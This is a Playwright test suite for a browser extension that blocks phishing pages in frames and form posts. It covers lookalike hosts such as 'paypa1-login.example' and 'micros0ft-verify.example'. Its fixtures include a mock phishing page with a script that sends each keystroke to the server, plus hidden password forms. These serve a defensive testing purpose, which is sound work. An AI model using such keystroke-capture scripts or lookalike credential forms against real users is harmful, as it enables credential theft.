import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { describeWith } from '../../../server/test/support/services.ts';
import { idOf, isWarning, launchChromium, newProfile, type Profile, until, untilAwake } from '../support/chromium.ts';
import { untilWarned } from '../support/navigations.ts';
import { openIn, surroundTests } from '../support/surroundings.ts';

const { internet, chromium } = await surroundTests();
const AROUND = 'http://garden-friends.org/around';

describeWith('Chromium', 'a phishing page that is not in the address line', () => {
  let profile: Profile;
  let context: BrowserContext;
  let tab: Page;

  beforeAll(async () => {
    profile = newProfile();
    context = await launchChromium({ port: internet.port, extension: chromium, profile: profile.path });
    await untilAwake(context, await idOf(context));
    tab = await context.newPage();
  });

  afterAll(async () => {
    await context.close();
    profile.remove();
  });

  test('is stopped in a frame when somebody is about to write there', async () => {
    const framed = 'http://paypa1-login.example/framed';
    internet.answers.set('/around', { body: `<!doctype html><iframe src="${framed}"></iframe>` });
    internet.answers.set('/framed', {
      body: `<!doctype html><input autofocus><script>
        document.querySelector('input').addEventListener('input', ({ target }) => fetch('/ran/' + target.value));
      </script>`,
    });
    await openIn(tab, AROUND);
    const field = tab.frameLocator('iframe').locator('input');
    await until(async () => isWarning(tab.url()) || (await field.count().catch(() => 0)) > 0);
    await field.click({ timeout: 5_000 }).catch(() => {});
    await tab.keyboard.type('hunter2');
    await untilWarned(tab, framed);
    expect([...internet.ran]).toEqual([]);
  });

  test('is sent no form, also where its host was never met before', async () => {
    const target = 'http://micros0ft-verify.example/page/first-form';
    internet.answers.set('/around', {
      body: `<!doctype html><form method="post" action="${target}"><input type="hidden" name="password" value="hunter2"><button>Go</button></form>`,
    });
    await openIn(tab, AROUND);
    await tab.click('button', { noWaitAfter: true });
    await untilWarned(tab, target);
    expect(internet.requests).toEqual([]);
  });

  test('lets a form go to another host that is honest', async () => {
    internet.answers.set('/around', {
      body: '<!doctype html><form action="http://quiet-meadow.com/in"><input type="hidden" name="a" value="1"><button name="b" value="2">Go</button></form>',
    });
    await openIn(tab, AROUND);
    await tab.click('button', { noWaitAfter: true });
    await until(
      () => tab.url() === 'http://quiet-meadow.com/in?a=1&b=2',
      () => tab.url(),
    );
  });

  test('is not requested in a frame, nor sent a form, once its host was stopped', async () => {
    const known = 'http://arnazon-login.example/page/known';
    await openIn(tab, known);
    await untilWarned(tab, known);
    internet.forget();
    internet.answers.set('/around', {
      body: `<!doctype html><iframe src="http://arnazon-login.example/page/frame" onload="document.title='loaded'"></iframe>
        <object data="http://arnazon-login.example/page/object" type="text/html"></object>
        <form method="post" action="http://arnazon-login.example/page/form"><input name="password" value="hunter2"><button>Go</button></form>`,
    });
    await openIn(tab, AROUND);
    await until(async () => (await tab.title()) === 'loaded');
    await tab.click('button', { noWaitAfter: true });
    await untilWarned(tab, 'http://arnazon-login.example/page/form');
    expect(internet.requests).toEqual([]);
  });
});
